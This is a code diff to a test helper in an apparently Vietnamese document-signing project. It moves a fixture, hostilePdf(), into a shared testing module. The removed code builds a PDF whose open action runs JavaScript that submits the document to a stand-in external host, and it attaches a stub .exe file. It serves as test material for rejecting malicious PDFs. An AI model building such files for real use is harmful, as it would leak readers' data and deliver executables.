@@ -13,7 +13,6 @@ import {
   UserDto,
   Urgency,
 } from '@vanthu/shared/contracts';
-import { PDFDocument, PDFHexString, PDFName } from 'pdf-lib';
 import TestAgent from 'supertest/lib/agent';
 
 import { TestApp } from './harness';
@@ -24,15 +23,7 @@ const run = promisify(execFile);
 export const CORPUS = resolve(__dirname, '../../../libs/pdf-signing/test/corpus');
 export const corpusFile = (name: string): Buffer => readFileSync(join(CORPUS, name));
 
-/** A PDF that submits data to an outside address when opened and carries an embedded .exe. */
-export async function hostilePdf(): Promise<Buffer> {
-  const doc = await PDFDocument.create();
-  doc.addPage();
-  const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText('this.submitForm({cURL: "https://thu-thap.example/du-lieu", cSubmitAs: "PDF"});') });
-  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
-  await doc.attach(Buffer.from('MZ\x90\x00 a program'), 'cai-dat.exe', { mimeType: 'application/octet-stream' });
-  return Buffer.from(await doc.save());
-}
+export { hostilePdf } from '@vanthu/server/testing';
 
 export const DEMO_PIN = '123456';
 export const COMMUNE_CODES = ['quangtan', 'dakbukso', 'dakrtih', 'dakngo', 'quangtruc', 'quangtam'];
